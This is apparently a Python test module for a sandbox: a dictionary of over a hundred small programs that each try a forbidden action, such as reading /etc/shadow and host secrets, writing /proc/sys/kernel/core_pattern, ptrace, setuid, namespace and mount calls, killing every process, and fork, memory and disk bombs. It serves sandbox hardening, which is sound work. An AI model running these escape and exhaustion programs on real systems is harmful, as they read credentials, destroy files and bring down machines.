"""Programs that try to escape from a sandbox, or to exhaust the machine: name -> Python source.

Each prints SUCCEEDED if it did something forbidden; `lure` describes the resources that the host offers (trial.py).
Loops are bounded, so that a sandbox without protection does not bring down the machine.
"""

PRELUDE = '''
import ctypes, errno, json, os, resource, signal, socket, struct, sys, time

lure = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def won(what=True):
    if what:
        print("SUCCEEDED", what, flush=True)

def call(number, *arguments):
    """(result, errno) of a system call."""
    ctypes.set_errno(0)
    plain = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    return libc.syscall(ctypes.c_long(number), *plain), ctypes.get_errno()

def reached(number, *arguments):
    """Whether the kernel did more than refuse it."""
    result, error = call(number, *arguments)
    return (number, result, error) if result >= 0 or error not in (errno.EPERM, errno.ENOSYS, errno.EACCES) else None

def forks(most, action):
    """How many children could be started that live at the same time."""
    children = []
    try:
        for _ in range(most):
            child = os.fork()
            if child == 0:
                try:
                    action()
                finally:
                    os._exit(0)
            children.append(child)
    except OSError:
        pass
    return children

def connected(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(1)
        client.connect(address)
        client.send(b"out")
        return True
'''

ATTACKS = {
    # the network
    "tcp to loopback": "won(connected(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', lure['port'])))",
    "tcp to loopback, IPv6": "won(connected(socket.AF_INET6, socket.SOCK_STREAM, ('::1', lure['port'])))",
    "udp to loopback": "won(connected(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', lure['udp'])))",
    "abstract socket": "won(connected(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + lure['abstract']))",
    "abstract datagram": "won(connected(socket.AF_UNIX, socket.SOCK_DGRAM, '\\0' + lure['abstract'] + 'd'))",
    "socket in a folder": "won(connected(socket.AF_UNIX, socket.SOCK_STREAM, lure['socket']))",
    "vsock to the hypervisor": "won(connected(40, socket.SOCK_STREAM, (2, 1024)))",
    "netlink": "won(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))",
    "packets": "won(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))",
    "raw icmp": "won(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))",
    "crypto sockets": "won(socket.socket(38, socket.SOCK_SEQPACKET, 0))",
    "every family": """
for family in range(2, 64):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind)
            won((family, kind))
        except OSError:
            pass
""",
    "a name server": "won(socket.getaddrinfo('example.org', 80))",
    "a listener that the host can reach": """
server = socket.create_server(('0.0.0.0', 0))
won(server.getsockname())
""",
    # files of the host
    "read a secret": "won(open(lure['canary']).read())",
    "read shadow": "won(open('/etc/shadow').read())",
    "list the user's home": "won(os.listdir(lure['home']))",
    "list a folder of the host": "won(os.listdir(lure['folder']))",
    "read through a symlink": "os.symlink(lure['canary'], 'link'); won(open('link').read())",
    "read through a hard link": "os.link(lure['canary'], 'link'); won(open('link').read())",
    "read through ..": "won(open('/tmp/../' * 20 + lure['canary'].lstrip('/')).read())",
    "read through an open folder": """
for number in range(3, 256):
    try:
        won(os.open(lure['canary'].lstrip('/'), os.O_RDONLY, dir_fd=number))
    except OSError:
        pass
""",
    "read by a file handle": """
handle = struct.pack('Ii', 8, 1) + struct.pack('II', 2, 0)
won(reached(304, -100, ctypes.c_char_p(handle), 0))
""",
    "write beside a secret": "open(lure['folder'] + '/written', 'w'); won()",
    "overwrite a file of the host": "open(lure['canary'], 'w').write('overwritten'); won()",
    "truncate a file of the host": "os.truncate(lure['canary'], 0); won()",
    "delete a file of the host": "os.unlink(lure['canary']); won()",
    "rename a file of the host": "os.rename(lure['canary'], lure['canary'] + '2'); won()",
    "change a file's mode": "os.chmod(lure['canary'], 0o777); won()",
    "change a file's owner": "os.chown(lure['canary'], -1, -1); won()",
    "change a file's times": "os.utime(lure['canary'], (0, 0)); won()",
    "change a file's attributes": "os.setxattr(lure['canary'], 'user.x', b'x'); won()",
    "lock a file of the host": "import fcntl; fcntl.flock(os.open(lure['canary'], os.O_RDONLY), fcntl.LOCK_EX); won()",
    "write to the shared folder": "open(lure['shared'] + '/written', 'w'); won()",
    "symlink in the shared folder": "os.symlink('/etc/passwd', lure['shared'] + '/link'); won()",
    "hard link in the shared folder": "os.link(lure['shared'] + '/data', lure['shared'] + '/link'); won()",
    "change the shared folder's mode": "os.chmod(lure['shared'], 0o777); won()",
    "follow the shared folder's symlink": "won(open(lure['shared'] + '/out').read())",
    "remount the shared folder": "won(reached(165, 0, ctypes.c_char_p(lure['shared'].encode()), 0, 32, 0))",
    "write to /usr": "open('/usr/written', 'w'); won()",
    "replace its interpreter": "open(os.path.realpath(sys.executable), 'r+b'); won()",
    "replace the program that started it": "open('/proc/self/exe', 'r+b'); won()",
    "write to /": "open('/written', 'w'); won()",
    "write to /dev": "open('/dev/written', 'w'); won()",
    "memory of the machine": "won([open(name, 'rb') for name in ('/dev/mem', '/dev/kmem', '/dev/port')])",
    "the kernel's log device": "won(open('/dev/kmsg', 'rb'))",
    "disks": """
for major, name in ((8, 'sda'), (254, 'vda'), (259, 'nvme0n1')):
    try:
        won(open('/dev/' + name, 'rb').read(1))
    except OSError:
        pass
    try:
        os.mknod('disk', 0o60666, os.makedev(major, 0))
        won(open('disk', 'rb').read(1))
    except OSError:
        pass
""",
    "the terminal": """
import fcntl
for number in (0, 1, 2):
    try:
        fcntl.ioctl(number, 0x5412, b'x')
        won()
    except OSError:
        pass
won(open('/dev/tty', 'r+b'))
""",
    # /proc and /sys
    "core_pattern": "won(open('/proc/sys/kernel/core_pattern', 'r+b'))",
    "sysrq": "won(open('/proc/sysrq-trigger', 'r+b'))",
    "modprobe path": "won(open('/proc/sys/kernel/modprobe', 'r+b'))",
    "hostname through /proc": "won(open('/proc/sys/kernel/hostname', 'r+b'))",
    "oom score of the host": "won(open('/proc/%d/oom_score_adj' % lure['victim'], 'r+b'))",
    "uevent helper": "won(open('/sys/kernel/uevent_helper', 'r+b'))",
    "debugfs": "won(os.listdir('/sys/kernel/debug'))",
    "cgroups": "won([name for name in os.listdir('/sys/fs/cgroup') if open('/sys/fs/cgroup/cgroup.procs', 'r+b')])",
    "environment of its parent": "won(open('/proc/%d/environ' % lure['parent'], 'rb').read())",
    "environment of the first process": "won(lure['secret'].encode() in open('/proc/1/environ', 'rb').read())",
    "memory of its parent": "won(open('/proc/%d/mem' % lure['parent'], 'r+b'))",
    "root of another process": "won(os.listdir('/proc/%d/root' % lure['victim']))",
    "descriptors of another process": "won(os.listdir('/proc/%d/fd' % lure['parent']))",
    "descriptors of another process, by number": """
for number in range(64):
    try:
        won(os.open('/proc/%d/fd/%d' % (lure['parent'], number), os.O_RDWR | os.O_NONBLOCK))
    except OSError:
        pass
""",
    "kernel symbols": "won(open('/proc/kallsyms').read(100))",
    "kernel memory": "won(open('/proc/kcore', 'rb'))",
    # other processes
    "signal its parent": "os.kill(lure['parent'], 0); won()",
    "kill a process of the host": "os.kill(lure['victim'], signal.SIGKILL); won()",
    "kill a group of the host": "os.killpg(lure['victim'], signal.SIGKILL); won()",
    "kill by a pidfd": "signal.pidfd_send_signal(os.pidfd_open(lure['victim']), signal.SIGKILL); won()",
    "queue a signal": """
victim = lure['victim']
won(reached(129, victim, 9, ctypes.create_string_buffer(128)) and 0 in call(62, victim, 0)[:1])
""",
    "ptrace": "won(reached(101, 16, lure['victim'], 0, 0))",
    "read a process's memory": """
data = ctypes.create_string_buffer(8)
vector = struct.pack('PN', ctypes.addressof(data), 8)
won(reached(310, lure['victim'], ctypes.c_char_p(vector), 1, ctypes.c_char_p(vector), 1, 0))
""",
    "take a process's descriptor": "won(reached(438, call(434, lure['victim'], 0)[0], 0, 0))",
    "compare processes": "won(reached(312, lure['victim'], os.getpid(), 0, 0, 0))",
    "limits of a process": "won(resource.prlimit(lure['victim'], resource.RLIMIT_CPU, (0, 0)))",
    "priority of a process": "os.setpriority(os.PRIO_PROCESS, lure['victim'], 19); won()",
    "processors of a process": "os.sched_setaffinity(lure['victim'], {0}); won()",
    "scheduling of a process": "os.sched_setscheduler(lure['victim'], os.SCHED_BATCH, os.sched_param(0)); won()",
    # privileges
    "setuid": "os.setuid(0); won(os.getuid() == 0)",
    "setresuid": "won(reached(117, 0, 0, 0) and open('/etc/shadow').read())",
    "setgroups": "os.setgroups([0]); won()",
    "capabilities": """
header = struct.pack('Ii', 0x20080522, 0)
won(reached(126, ctypes.c_char_p(header), ctypes.c_char_p(b'\\xff' * 24)))
""",
    "a setuid program": """
import subprocess
for name in ('su', 'mount', 'newgrp', 'passwd', 'sudo', 'chsh'):
    try:
        ended = subprocess.run([name, '-c', 'id -u'], capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
        won(ended.stdout.strip() == b'0')
    except OSError:
        pass
""",
    "user namespace": "won(reached(272, 0x10000000))",
    "mount namespace": "won(reached(272, 0x00020000))",
    "network namespace": "won(reached(272, 0x40000000))",
    "clone into a user namespace": """
result, error = call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
if result == 0:
    os._exit(0)
won(result > 0)
""",
    "clone3 into a user namespace": """
result, error = call(435, ctypes.c_char_p(struct.pack('8Q', 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)), 64)
if result == 0:
    os._exit(0)
won(result > 0)
""",
    "enter a namespace": "won(reached(308, 0, 0x10000000))",
    "mount": "won(reached(165, ctypes.c_char_p(b'none'), ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'tmpfs'), 0, 0))",
    "mount by descriptors": "won(reached(430, ctypes.c_char_p(b'tmpfs'), 0))",
    "clone a mount": "won(reached(428, -100, ctypes.c_char_p(b'/'), 1))",
    "unmount": "won(reached(166, ctypes.c_char_p(b'/tmp'), 2))",
    "pivot_root": "won(reached(155, ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'/tmp')))",
    "chroot": "won(reached(161, ctypes.c_char_p(b'/tmp')))",
    # kernel interfaces
    "io_uring": "won(reached(425, 8, ctypes.create_string_buffer(120)))",
    "bpf": "won(reached(321, 0, ctypes.create_string_buffer(64), 64))",
    "perf": "won(reached(298, ctypes.c_char_p(struct.pack('II', 1, 112) + bytes(104)), 0, -1, -1, 0))",
    "keyring": "won(reached(248, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'k'), ctypes.c_char_p(b'v'), 1, -3))",
    "keyctl": "won(reached(250, 0, -3, 1))",
    "userfaultfd": "won(reached(323, 1))",
    "fanotify": "won(reached(300, 0, 0))",
    "watch a folder of the host": """
result, error = call(294, 0)
won(result >= 0 and call(254, result, ctypes.c_char_p(lure['folder'].encode()), 2)[0] >= 0)
""",
    "load a module": "won(reached(175, 0, 0, 0) or reached(313, 0, ctypes.c_char_p(b''), 0))",
    "another kernel": "won(reached(246, 0, 0, 0, 0))",
    "reboot": "won(reached(169, 0xFEE1DEAD, 672274793, 0, 0))",  # only disables Ctrl-Alt-Del
    "swap": "won(reached(167, ctypes.c_char_p(b'/tmp'), 0))",
    "accounting": "won(reached(163, 0))",
    "quotas": "won(reached(179, 0x800001 << 8, 0, 0, 0))",
    "ports": "won(reached(172, 3) or reached(173, 0, 8, 1))",
    "log of the kernel": "won(reached(103, 3, ctypes.create_string_buffer(64), 64))",
    "segment descriptors": "won(reached(154, 0, ctypes.create_string_buffer(64), 64))",
    "personality": "won(reached(135, 0x0040000))",
    "x32 calls": "won(reached(0x40000000 + 101, 16, lure['victim'], 0, 0))",
    "32-bit calls": """
import mmap
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex('53b81a000000bb10000000b900000000cd805bc3'))  # int 0x80: ptrace
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
won(function() not in (-1, -38))
""",
    "newer calls": "won(reached(463, 0, 0, 0, 0) or reached(500, 0))",
    # clock, name and scheduler of the machine
    "set the clock": "won(reached(227, 0, ctypes.c_char_p(struct.pack('QQ', 1, 0))))",
    "adjust the clock": "won(reached(159, ctypes.create_string_buffer(208)))",
    "hostname": "won(reached(170, ctypes.c_char_p(b'x'), 1))",
    "nice": "won(os.nice(-5) is not None)",
    "real time": "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)); won()",
    "deadline scheduling": "won(reached(314, 0, ctypes.create_string_buffer(48), 0))",
    "priority of disks": "won(reached(251, 1, 0, 1 << 13))",
    "raise a limit": """
for name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_NOFILE', 'RLIMIT_FSIZE', 'RLIMIT_CORE'):
    try:
        resource.setrlimit(getattr(resource, name), (1 << 40, 1 << 40))
        won(name)
    except (OSError, ValueError):
        pass
""",
    # leaks
    "secrets of the environment": "won(lure['secret'] in str(dict(os.environ)))",
    "open descriptors": """
for number in range(3, 1024):
    try:
        os.fstat(number)
        won(number)
    except OSError:
        pass
""",
    # processes
    "fork bomb": "won(len(forks(200, lambda: time.sleep(9))) >= lure['processes'])",
    "fork tree": """
def tree(depth=0):
    while depth < 7:
        child = os.fork()
        depth += 1
        os.write(writer, b'x')
    time.sleep(0.5)
reader, writer = os.pipe()
try:
    tree()
except OSError:
    pass
os.set_blocking(reader, False)
time.sleep(0.3)
won(len(os.read(reader, 1000)) >= 2 * lure['processes'] - 1)
""",
    "thread bomb": """
import threading
threading.stack_size(65536)
started = 0
try:
    for _ in range(300):
        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
won(started >= lure['processes'])
os._exit(0)
""",
    "vfork bomb": """
import subprocess
running = []
try:
    for _ in range(50):
        running.append(subprocess.Popen(['sleep', '9']))
except OSError:
    pass
won(len(running) >= lure['processes'])
os._exit(0)
""",
    "a daemon": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 64):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        for number in (0, 1, 2):
            os.close(number)
        time.sleep(60)
    os._exit(0)
""",
    "a session of its own": "os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(60)",
    "stopped": "os.kill(os.getpid(), signal.SIGSTOP)",
    "signals ignored": """
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
""",
    "kill everything": "os.kill(-1, signal.SIGKILL)",
    # memory
    "memory": "block = bytearray(2 << 30); block[::4096] = b'x' * len(block[::4096]); won()",
    "memory of children together": """
def eat():
    block = bytearray(lure['memory'] // 2)
    block[::4096] = b'x' * len(block[::4096])
    os.write(writer, b'x')
    time.sleep(2)
reader, writer = os.pipe()
forks(8, eat)
time.sleep(1.5)
os.set_blocking(reader, False)
won(len(os.read(reader, 100)) >= 2)
""",
    "shared memory": """
import mmap
blocks = [mmap.mmap(-1, 32 << 20) for _ in range(32)]
for block in blocks:
    for at in range(0, 32 << 20, 4096):
        block[at] = 1
won()
""",
    "memfd": """
number = os.memfd_create('x')
for _ in range(512):
    os.write(number, bytes(1 << 20))
won()
""",
    "secret memory": "won(reached(447, 0))",
    "System V memory": "won(reached(29, 0, 1 << 30, 0o1600))",
    "System V messages": "won(reached(68, 0, 0o1600))",
    "POSIX messages": "won(reached(240, ctypes.c_char_p(b'x'), 0o100 | 2, 0o600, 0))",
    "/dev/shm": """
with open('/dev/shm/x', 'wb') as file:
    for _ in range(512):
        file.write(bytes(1 << 20))
won()
""",
    "locked memory": "block = ctypes.create_string_buffer(1 << 20); won(libc.mlock(block, 1 << 20) == 0)",
    "pipes": """
import fcntl
total = 0
try:
    while total < 1 << 30:
        reader, writer = os.pipe()
        size = fcntl.fcntl(writer, 1031, 1 << 20)
        total += os.write(writer, bytes(size))
except OSError:
    won(total > 80 << 20)
""",
    "sockets' buffers": """
total = 0
try:
    while total < 1 << 30:
        one, other = socket.socketpair()
        one.setblocking(False)
        try:
            while True:
                total += one.send(bytes(65536))
        except BlockingIOError:
            pass
        globals()[f'kept{total}'] = one, other
except OSError:
    won(total > 80 << 20)
""",
    "recursion": "sys.setrecursionlimit(10 ** 9)\ndef deeper(): deeper()\ndeeper()",
    # disk
    "disk": """
for number in range(64):
    with open(f'file{number}', 'wb') as file:
        file.write(bytes(1 << 20))
won()
""",
    "fallocate": """
for number in range(64):
    os.posix_fallocate(os.open(f'file{number}', os.O_CREAT | os.O_RDWR), 0, 1 << 20)
won()
""",
    "a sparse file": "os.truncate(os.open('file', os.O_CREAT | os.O_RDWR), 1 << 40); won()",
    "inodes": """
for number in range(20000):
    open(f'file{number}', 'w').close()
won()
""",
    "folders": """
for number in range(20000):
    os.mkdir(f'folder{number}')
won()
""",
    "symlinks": """
for number in range(20000):
    os.symlink('x' * 2000, f'link{number}')
won()
""",
    "deleted files that stay open": """
kept = []
for number in range(64):
    kept.append(open('file', 'wb'))
    kept[-1].write(bytes(1 << 20))
    kept[-1].flush()
    os.unlink('file')
won()
""",
    # output
    "output": "while True: os.write(1, bytes(65536))",
    "errors": "while True: os.write(2, bytes(65536))",
    "output from a child": """
if os.fork() == 0:
    while True:
        os.write(1, bytes(65536))
""",
}
# attacks that end at a limit or not at all
MEETS: dict[str, set[str | None]] = {
    "a session of its own": {"wall", None}, "stopped": {"wall"}, "signals ignored": {"cpu", "wall"},
    "output": {"output"}, "errors": {"output"},
}  # fmt: skip
